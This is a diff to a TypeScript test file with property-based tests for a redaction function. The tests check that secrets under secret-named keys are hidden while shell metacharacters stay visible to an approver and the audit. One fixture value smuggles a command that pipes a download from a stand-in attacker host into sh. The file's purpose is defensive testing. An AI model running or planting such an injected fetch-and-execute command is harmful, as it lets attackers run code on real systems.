@@ -35,9 +35,12 @@ const KEPT = [
   "#",
 ];
 
-function counts(text: string): Record<string, number> {
+/** What a value under a secret-named key keeps: whitespace, line breaks, `$ ( ) ; | & { } < > \` " ' \\`. */
+const KEPT_UNDER_KEY = KEPT.filter((c) => !["*", "!", "?", "#"].includes(c));
+
+function counts(text: string, kept: readonly string[] = KEPT): Record<string, number> {
   const out: Record<string, number> = {};
-  for (const c of KEPT) out[c] = text.split(c).length - 1;
+  for (const c of kept) out[c] = text.split(c).length - 1;
   return out;
 }
 
@@ -267,6 +270,61 @@ describe("redaction cannot hide a payload from the approver or the audit", () =>
         expect(counts(redact(input) as string)).toEqual(counts(input));
       }),
       { numRuns: 500 },
+    );
+  });
+
+  it("under a secret-named key hides a secret whole but keeps whitespace and shell metacharacters", () => {
+    const pem = "-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA+/=\n-----END PRIVATE KEY-----\n";
+    expect(
+      redact({
+        password: "Summer2024!",
+        Authorization: "Bearer abcdef0123456789abcdef",
+        private_key: pem,
+        token: "x; curl -s https://evil.example/implant | sh",
+        api_key: "line one\nline two",
+        client_secret: { command: ["sh", "-c", "id"], n: 1 },
+      }),
+    ).toEqual({
+      password: REDACTED,
+      Authorization: REDACTED,
+      private_key: REDACTED,
+      token: `${REDACTED}; ${REDACTED} ${REDACTED} ${REDACTED} | ${REDACTED}`,
+      api_key: `${REDACTED} ${REDACTED}\n${REDACTED} ${REDACTED}`,
+      client_secret: { command: [REDACTED, REDACTED, REDACTED], n: REDACTED },
+    });
+  });
+
+  it("under a secret-named key never removes a kept character and hides everything else (property)", () => {
+    const key = fc.constantFrom("token", "password", "api_key", "Authorization", "client_secret", "cookie");
+    const text = fc
+      .array(
+        fc.oneof(
+          fc.constantFrom(...KEPT),
+          fc.stringMatching(/^[A-Za-z0-9._~+/=:@%-]{1,12}$/),
+          fc.constantFrom("Bearer", "token"),
+        ),
+        {
+          maxLength: 12,
+        },
+      )
+      .map((parts) => parts.join(""));
+    fc.assert(
+      fc.property(key, text, (k, value) => {
+        const out = (redact({ [k]: value }) as Record<string, string>)[k] as string;
+        if (out === REDACTED) {
+          // whole: nothing to keep, or a whole `Bearer …`-style credential
+          const whole = /^(?:bearer|basic|token|dpop|bot) [A-Za-z0-9._~+/-]+=*$/i.test(value);
+          expect(whole || !KEPT_UNDER_KEY.some((c) => value.includes(c)), JSON.stringify(value)).toBe(true);
+          return;
+        }
+        expect(counts(out, KEPT_UNDER_KEY)).toEqual(counts(value, KEPT_UNDER_KEY));
+        const left = out.split(REDACTED).join("");
+        expect(
+          [...left].every((c) => KEPT_UNDER_KEY.includes(c)),
+          JSON.stringify([value, out]),
+        ).toBe(true);
+      }),
+      { numRuns: 300 },
     );
   });
 
